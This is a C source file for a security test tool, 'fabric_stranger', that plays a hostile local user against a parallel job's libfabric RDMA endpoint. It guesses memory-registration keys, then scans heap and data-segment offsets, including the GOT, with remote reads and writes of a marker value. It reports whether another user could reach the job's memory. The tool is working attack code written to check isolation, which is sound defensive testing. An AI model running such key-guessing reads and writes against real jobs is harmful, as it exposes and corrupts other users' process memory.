/* A hostile local user against a PE's fabric endpoint, for the
 * fault-fabric-stranger tests (fabric_stranger.sh):
 *
 *   fabric_stranger [--uid U] [--limit S] PROVIDER ADDR:PORT...
 *   fabric_stranger --probe PROVIDER
 *
 *   --uid U    become uid (and gid) U first, before libfabric is opened
 *              (needs root): a second user
 *   --limit S  give up after S seconds (default 20)
 *
 * ADDR:PORT... are where the PE's endpoint listens, which /proc/net/tcp
 * shows to every user: the stranger knows the endpoint's address, as a real
 * one would, but not the job's registration keys. It opens an RDM endpoint
 * of PROVIDER (tcp or sockets) and tries 8-byte fi_read and fi_write
 * (delivery complete: a write completes only once the PE took it) with
 * keys 1 and 2 (the heap's and the data segment's while keys were counted
 * from 1), 0 and 3 to 16 (the job's other registrations then), five random
 * keys and all-ones, at offset 0. The provider takes offsets (no
 * FI_MR_VIRT_ADDR), and offset 0 lies in every registration, so a key
 * refused there is refused everywhere (over tcp each refusal costs a new
 * connection, so one try per key keeps the test short). A key that works
 * is then used for a scan, reads first: offsets 0 to 0x40000 step 0x100, where every
 * heap allocation starts (256-byte aligned, the first after the reserved
 * area), and 0 to 0x1000 step 8, the data segment's start (its GOT, when the
 * registration began at .got.plt) and first globals; then writes of
 * "STRNGER!" at the same offsets, which the victim notices.
 *
 * One operation is in flight at a time, so that each refusal is this
 * operation's: tcp;ofi_rxm's PE closes the connection on a bad key, and an
 * operation that finds that connection gone ("not connected") is posted
 * again on a new one. Every success is printed ("read key K offset O of
 * ADDR:PORT: VALUE", "wrote key K offset O of ADDR:PORT"), and per key the
 * refusals by error. A control first reads and writes a registration of
 * the stranger's own through its own address, so that nothing passes
 * because the attack itself is broken.
 *
 * Exit status: 0 when every operation reached the PE and was refused,
 * EXIT_BREACHED when one succeeded, 2 when nothing was proved (the control
 * failed, the PE could not be reached or stopped answering, or time ran
 * out), 3 when this libfabric has no such provider (--probe: 0 when it
 * has); 1 is left to the sanitizers' reports. */
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <grp.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <rdma/fabric.h>
#include <rdma/fi_cm.h>
#include <rdma/fi_domain.h>
#include <rdma/fi_endpoint.h>
#include <rdma/fi_errno.h>
#include <rdma/fi_rma.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#define EXIT_BREACHED 10
#define MAX_TARGETS 16
#define DEFAULT_LIMIT_S 20.0
#define OP_TIMEOUT_S 2.0  /* for one operation, reposts included */
#define MAX_RESETS 3      /* reposts after "connection reset" (which may be the refusal) */
#define MAX_UNANSWERED 3  /* in a row: the PE is gone or stuck */
#define MAX_LINES 16      /* successes printed per key and kind, besides text */
#define MAX_ERRORS 4      /* kinds of refusal counted per key */
#define WRITE_MARK UINT64_C(0x215245474e525453) /* "STRNGER!" in memory */
#define CONTROL_VALUE UINT64_C(0x0123456789abcdef)
#define HEAP_SCAN_END 0x40000
#define HEAP_SCAN_STEP 0x100
#define DATA_SCAN_END 0x1000
#define DATA_SCAN_STEP 8

struct fabric {
    struct fi_info *info;
    struct fid_fabric *fabric;
    struct fid_domain *domain;
    struct fid_av *av;
    struct fid_cq *cq;
    struct fid_ep *ep;
};

struct target {
    const char *name; /* ADDR:PORT */
    fi_addr_t addr;
    int unanswered; /* operations in a row */
};

/* What one key did at one target. */
struct tally {
    int reads, reads_ok, writes, writes_ok, refused, unanswered, unreached;
    int errors[MAX_ERRORS], error_counts[MAX_ERRORS], n_errors;
};

static double deadline;
static long reposted; /* posts again after meeting a closed connection */

static double now_s(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec * 1e-9;
}

static int usage(void)
{
    fputs("usage: fabric_stranger [--uid U] [--limit S] PROVIDER ADDR:PORT...\n"
          "       fabric_stranger --probe PROVIDER\n", stderr);
    return 2;
}

static int open_fabric(const char *provider, struct fabric *f)
{
    struct fi_info *hints = fi_allocinfo();
    if (hints == NULL)
        return -FI_ENOMEM;
    hints->caps = FI_RMA;
    hints->ep_attr->type = FI_EP_RDM;
    hints->addr_format = FI_SOCKADDR_IN;
    hints->mode = FI_CONTEXT;
    /* Local buffers go unregistered (desc NULL): no FI_MR_LOCAL. */
    hints->domain_attr->mr_mode = FI_MR_ALLOCATED | FI_MR_ENDPOINT;
    hints->fabric_attr->prov_name = strdup(provider);
    /* ofi_rxm looks for the closed connection only every 128 polls of its
     * queue by default, which made each refusal over tcp cost 50 ms. */
    setenv("FI_OFI_RXM_CQ_EQ_FAIRNESS", "1", 0);
    int rc = fi_getinfo(FI_VERSION(1, 17), "127.0.0.1", "0", FI_SOURCE, hints, &f->info);
    fi_freeinfo(hints);
    if (rc == -FI_ENODATA)
        return rc;
    if (rc != 0) {
        fprintf(stderr, "fabric_stranger: no RDM endpoint with RMA of provider %s: %s\n",
                provider, fi_strerror(-rc));
        return rc;
    }
    printf("fabric_stranger: provider %s, mr_mode 0x%x\n", f->info->fabric_attr->prov_name,
           (unsigned)f->info->domain_attr->mr_mode);
    struct fi_cq_attr cq_attr = {.format = FI_CQ_FORMAT_CONTEXT, .wait_obj = FI_WAIT_NONE};
    struct fi_av_attr av_attr = {.type = FI_AV_TABLE};
    if ((rc = fi_fabric(f->info->fabric_attr, &f->fabric, NULL)) != 0 ||
        (rc = fi_domain(f->fabric, f->info, &f->domain, NULL)) != 0 ||
        (rc = fi_av_open(f->domain, &av_attr, &f->av, NULL)) != 0 ||
        (rc = fi_cq_open(f->domain, &cq_attr, &f->cq, NULL)) != 0 ||
        (rc = fi_endpoint(f->domain, f->info, &f->ep, NULL)) != 0 ||
        (rc = fi_ep_bind(f->ep, &f->av->fid, 0)) != 0 ||
        (rc = fi_ep_bind(f->ep, &f->cq->fid, FI_TRANSMIT | FI_RECV)) != 0 ||
        (rc = fi_enable(f->ep)) != 0) {
        fprintf(stderr, "fabric_stranger: cannot open an endpoint: %s\n", fi_strerror(-rc));
        return rc;
    }
    return 0;
}

static void close_fabric(struct fabric *f)
{
    if (f->ep != NULL)
        fi_close(&f->ep->fid);
    if (f->av != NULL)
        fi_close(&f->av->fid);
    if (f->cq != NULL)
        fi_close(&f->cq->fid);
    if (f->domain != NULL)
        fi_close(&f->domain->fid);
    if (f->fabric != NULL)
        fi_close(&f->fabric->fid);
    if (f->info != NULL)
        fi_freeinfo(f->info);
}

/* Waits for the completion of the operation with context ctx: 0 on
 * success, a negative fabric error when it failed, -FI_ETIMEDOUT when none
 * came by `until`. Completions of earlier operations that ran out of time
 * are dropped. */
static int wait_completion(struct fabric *f, const struct fi_context *ctx, double until)
{
    for (;;) {
        struct fi_cq_entry entry;
        ssize_t n = fi_cq_read(f->cq, &entry, 1);
        if (n == 1 && entry.op_context == ctx)
            return 0;
        if (n == -FI_EAVAIL) {
            struct fi_cq_err_entry err;
            memset(&err, 0, sizeof(err));
            if (fi_cq_readerr(f->cq, &err, 0) != 1)
                return -FI_EOTHER;
            if (err.op_context == ctx)
                return err.err != 0 ? -err.err : -FI_EOTHER;
        } else if (n < 0 && n != -FI_EAGAIN) {
            return (int)n;
        }
        if (now_s() > until)
            return -FI_ETIMEDOUT;
    }
}

/* One 8-byte read or write, posted again while it finds a connection that
 * an earlier refusal closed. Returns as wait_completion, or the post's
 * error. Each post has its own context, and the buffers outlive an
 * operation that never completed (a later one may overwrite them). */
static int rma(struct fabric *f, bool write, fi_addr_t dest, uint64_t offset, uint64_t key,
               uint64_t *value)
{
    static struct fi_context ctxs[64];
    static unsigned posts;
    static uint64_t buf;
    double until = now_s() + OP_TIMEOUT_S;
    for (int resets = 0;;) {
        struct fi_context *ctx = &ctxs[posts++ % 64];
        struct iovec iov = {.iov_base = &buf, .iov_len = sizeof(buf)};
        struct fi_rma_iov rma_iov = {.addr = offset, .len = sizeof(buf), .key = key};
        struct fi_msg_rma msg = {.msg_iov = &iov, .iov_count = 1, .addr = dest,
                                 .rma_iov = &rma_iov, .rma_iov_count = 1, .context = ctx};
        buf = write ? *value : 0;
        ssize_t rc;
        do {
            rc = write ? fi_writemsg(f->ep, &msg, FI_COMPLETION | FI_DELIVERY_COMPLETE)
                       : fi_readmsg(f->ep, &msg, FI_COMPLETION);
            if (rc == -FI_EAGAIN)
                (void)wait_completion(f, NULL, 0); /* progress only */
        } while (rc == -FI_EAGAIN && now_s() < until);
        if (rc == -FI_EAGAIN) /* no connection: tcp;ofi_rxm's way after the PE died */
            return -FI_ETIMEDOUT;
        if (rc != 0)
            return (int)rc;
        int done = wait_completion(f, ctx, until);
        bool stale = done == -FI_ENOTCONN || (done == -FI_ECONNRESET && resets++ < MAX_RESETS);
        if (!stale || now_s() > until) {
            if (done == 0 && !write)
                *value = buf;
            return done;
        }
        reposted++;
        struct timespec nap = {0, 200 * 1000};
        nanosleep(&nap, NULL);
    }
}

static fi_addr_t insert_addr(struct fabric *f, const void *addr)
{
    fi_addr_t fa = FI_ADDR_NOTAVAIL;
    return fi_av_insert(f->av, addr, 1, &fa, 0, NULL) == 1 ? fa : FI_ADDR_NOTAVAIL;
}

/* Reads and writes a registration of the stranger's own through its own
 * address: the attack's path works where the key is right. */
static int control(struct fabric *f)
{
    static uint64_t own = CONTROL_VALUE;
    struct fid_mr *mr;
    int rc = fi_mr_reg(f->domain, &own, sizeof(own), FI_REMOTE_READ | FI_REMOTE_WRITE, 0, 1, 0,
                       &mr, NULL);
    if (rc != 0) {
        fprintf(stderr, "fabric_stranger: control: cannot register: %s\n", fi_strerror(-rc));
        return rc;
    }
    if ((f->info->domain_attr->mr_mode & FI_MR_ENDPOINT) &&
        ((rc = fi_mr_bind(mr, &f->ep->fid, 0)) != 0 || (rc = fi_mr_enable(mr)) != 0)) {
        fprintf(stderr, "fabric_stranger: control: cannot enable: %s\n", fi_strerror(-rc));
        fi_close(&mr->fid);
        return rc;
    }
    char name[256];
    size_t len = sizeof(name);
    fi_addr_t self = FI_ADDR_NOTAVAIL;
    if ((rc = fi_getname(&f->ep->fid, name, &len)) != 0 ||
        (self = insert_addr(f, name)) == FI_ADDR_NOTAVAIL) {
        fprintf(stderr, "fabric_stranger: control: no address of its own: %s\n",
                fi_strerror(-rc));
        fi_close(&mr->fid);
        return rc != 0 ? rc : -FI_EINVAL;
    }
    uint64_t got = 0, mark = WRITE_MARK;
    if ((rc = rma(f, false, self, 0, fi_mr_key(mr), &got)) != 0 || got != CONTROL_VALUE ||
        (rc = rma(f, true, self, 0, fi_mr_key(mr), &mark)) != 0 || own != WRITE_MARK) {
        fprintf(stderr, "fabric_stranger: control: reading and writing its own registration "
                        "failed (%s, read 0x%016" PRIx64 ")\n", fi_strerror(-rc), got);
        fi_close(&mr->fid);
        return rc != 0 ? rc : -FI_EIO;
    }
    printf("fabric_stranger: control: read and wrote its own registration through its own "
           "address\n");
    fi_close(&mr->fid);
    fi_av_remove(f->av, &self, 1, 0);
    return 0;
}

static void count_error(struct tally *t, int rc)
{
    for (int e = 0; e < t->n_errors; e++)
        if (t->errors[e] == rc) {
            t->error_counts[e]++;
            return;
        }
    if (t->n_errors < MAX_ERRORS) {
        t->errors[t->n_errors] = rc;
        t->error_counts[t->n_errors++] = 1;
    }
}

/* The failures that say the operation never met the PE's endpoint. */
static bool unreached(int rc)
{
    return rc == -FI_ECONNREFUSED || rc == -FI_EHOSTUNREACH || rc == -FI_ENETUNREACH ||
           rc == -FI_EADDRNOTAVAIL || rc == -FI_ENOENT || rc == -FI_ENOTCONN;
}

/* 8 printable bytes: a value worth printing whatever its place. */
static bool is_text(uint64_t v, char out[9])
{
    memcpy(out, &v, 8);
    out[8] = '\0';
    for (int b = 0; b < 8; b++)
        if (!isprint((unsigned char)out[b]))
            return false;
    return true;
}

/* One read or write at (key, offset); true when it succeeded. */
static bool try_op(struct fabric *f, struct target *tg, struct tally *t, bool write, uint64_t key,
                   uint64_t offset)
{
    uint64_t value = write ? WRITE_MARK : 0;
    int rc = rma(f, write, tg->addr, offset, key, &value);
    *(write ? &t->writes : &t->reads) += 1;
    tg->unanswered = rc == -FI_ETIMEDOUT ? tg->unanswered + 1 : 0;
    if (rc != 0) {
        if (rc == -FI_ETIMEDOUT)
            t->unanswered++;
        else if (unreached(rc))
            t->unreached++;
        else
            t->refused++;
        count_error(t, rc);
        return false;
    }
    char text[9];
    if (write) {
        if (t->writes_ok++ < MAX_LINES)
            printf("wrote key %" PRIu64 " offset 0x%" PRIx64 " of %s\n", key, offset, tg->name);
    } else if (is_text(value, text)) {
        t->reads_ok++;
        printf("read key %" PRIu64 " offset 0x%" PRIx64 " of %s: 0x%016" PRIx64 " \"%s\"\n", key,
               offset, tg->name, value, text);
    } else if (t->reads_ok++ < MAX_LINES && value != 0) {
        printf("read key %" PRIu64 " offset 0x%" PRIx64 " of %s: 0x%016" PRIx64 "\n", key,
               offset, tg->name, value);
    }
    return true;
}

static bool go_on(const struct target *tg)
{
    return tg->unanswered < MAX_UNANSWERED && now_s() < deadline;
}

/* Reads, then writes, at every offset of the scan, each run up to its
 * first failure: a registration covers the offsets from 0 to its length,
 * and after a write that broke the PE nothing more will work. */
static void scan(struct fabric *f, struct target *tg, struct tally *t, uint64_t key)
{
    printf("fabric_stranger: key %" PRIu64 " works at %s: scanning\n", key, tg->name);
    for (int write = 0; write <= 1; write++) {
        for (uint64_t off = 0; off < HEAP_SCAN_END && go_on(tg); off += HEAP_SCAN_STEP)
            if (!try_op(f, tg, t, write, key, off))
                break;
        for (uint64_t off = 0; off < DATA_SCAN_END && go_on(tg); off += DATA_SCAN_STEP)
            if (off % HEAP_SCAN_STEP != 0 && !try_op(f, tg, t, write, key, off))
                break;
    }
}

static void report(uint64_t key, const struct target *tg, const struct tally *t)
{
    char why[256] = "";
    size_t len = 0;
    for (int e = 0; e < t->n_errors && len < sizeof(why); e++)
        len += (size_t)snprintf(why + len, sizeof(why) - len, "%s%d \"%s\"", e ? ", " : "; ",
                                t->error_counts[e], fi_strerror(-t->errors[e]));
    printf("key %" PRIu64 " at %s: %d of %d reads and %d of %d writes succeeded, %d refused, "
           "%d unreached, %d unanswered%s\n", key, tg->name, t->reads_ok, t->reads, t->writes_ok,
           t->writes, t->refused, t->unreached, t->unanswered, why);
}

/* ADDR:PORT */
static bool parse_target(const char *text, struct sockaddr_in *sa)
{
    char addr[32];
    const char *colon = strrchr(text, ':');
    size_t n = colon != NULL ? (size_t)(colon - text) : 0;
    if (n == 0 || n >= sizeof(addr))
        return false;
    memcpy(addr, text, n);
    addr[n] = '\0';
    long port = strtol(colon + 1, NULL, 10);
    memset(sa, 0, sizeof(*sa));
    sa->sin_family = AF_INET;
    sa->sin_port = htons((uint16_t)port);
    return port > 0 && port < 65536 && inet_pton(AF_INET, addr, &sa->sin_addr) == 1;
}

int main(int argc, char **argv)
{
    struct fabric f;
    memset(&f, 0, sizeof(f));
    if (argc == 3 && strcmp(argv[1], "--probe") == 0) {
        int rc = open_fabric(argv[2], &f);
        close_fabric(&f);
        return rc == 0 ? 0 : rc == -FI_ENODATA ? 3 : 2;
    }
    long as_uid = -1;
    double limit_s = DEFAULT_LIMIT_S;
    int i = 1;
    for (; i + 1 < argc && strncmp(argv[i], "--", 2) == 0; i += 2) {
        if (strcmp(argv[i], "--uid") == 0)
            as_uid = strtol(argv[i + 1], NULL, 10);
        else if (strcmp(argv[i], "--limit") == 0)
            limit_s = strtod(argv[i + 1], NULL);
        else
            return usage();
    }
    if (argc - i < 2 || argc - i - 1 > MAX_TARGETS)
        return usage();
    const char *provider = argv[i++];
    setvbuf(stdout, NULL, _IOLBF, 0);

    if (as_uid >= 0 && (setgroups(0, NULL) != 0 || setresgid((gid_t)as_uid, (gid_t)as_uid,
                                                              (gid_t)as_uid) != 0 ||
                        setresuid((uid_t)as_uid, (uid_t)as_uid, (uid_t)as_uid) != 0)) {
        fprintf(stderr, "fabric_stranger: cannot become uid %ld: %s\n", as_uid, strerror(errno));
        return 2;
    }
    printf("fabric_stranger: uid %d, gid %d\n", (int)getuid(), (int)getgid());
    deadline = now_s() + limit_s;

    int rc = open_fabric(provider, &f);
    if (rc == 0 && (f.info->domain_attr->mr_mode & FI_MR_VIRT_ADDR)) {
        fprintf(stderr, "fabric_stranger: provider %s wants virtual addresses, not offsets: "
                        "this attack does not apply\n", provider);
        rc = -FI_ENOSYS;
    }
    if (rc == 0)
        rc = control(&f);
    if (rc != 0) {
        close_fabric(&f);
        return rc == -FI_ENODATA ? 3 : 2;
    }

    uint64_t keys[2 + 15 + 5 + 1];
    int n_keys = 0;
    keys[n_keys++] = 1;
    keys[n_keys++] = 2;
    keys[n_keys++] = 0;
    for (uint64_t k = 3; k <= 16; k++)
        keys[n_keys++] = k;
    for (int r = 0; r < 5; r++) {
        uint64_t k = 0;
        if (getrandom(&k, sizeof(k), 0) != (ssize_t)sizeof(k))
            k = UINT64_C(0x9e3779b97f4a7c15) * (uint64_t)(r + 1);
        keys[n_keys++] = k;
    }
    keys[n_keys++] = UINT64_MAX;

    bool succeeded = false, incomplete = false;
    for (; i < argc; i++) {
        struct target tg = {.name = argv[i]};
        struct sockaddr_in sa;
        if (!parse_target(argv[i], &sa) || (tg.addr = insert_addr(&f, &sa)) == FI_ADDR_NOTAVAIL) {
            fprintf(stderr, "fabric_stranger: cannot insert address %s\n", argv[i]);
            close_fabric(&f);
            return 2;
        }
        for (int k = 0; k < n_keys && go_on(&tg); k++) {
            struct tally t = {0};
            bool works = false;
            for (int write = 0; write <= 1 && go_on(&tg); write++)
                works |= try_op(&f, &tg, &t, write, keys[k], 0);
            if (works)
                scan(&f, &tg, &t, keys[k]);
            report(keys[k], &tg, &t);
            succeeded |= works;
            incomplete |= t.unreached > 0;
        }
        if (tg.unanswered >= MAX_UNANSWERED) {
            printf("fabric_stranger: %s stopped answering\n", tg.name);
            incomplete = true;
        }
    }
    if (reposted > 0)
        printf("fabric_stranger: %ld operations posted again after meeting a closed "
               "connection\n", reposted);
    if (now_s() >= deadline) {
        printf("fabric_stranger: ran out of its %.0f s\n", limit_s);
        incomplete = true;
    }
    close_fabric(&f);
    if (succeeded) {
        printf("fabric_stranger: FAIL: another user read or wrote the PE's memory\n");
        return EXIT_BREACHED;
    }
    if (incomplete) {
        printf("fabric_stranger: the attack did not finish or did not reach the PE: nothing "
               "was proved\n");
        return 2;
    }
    printf("fabric_stranger: every read and write reached the PE and was refused\n");
    return 0;
}
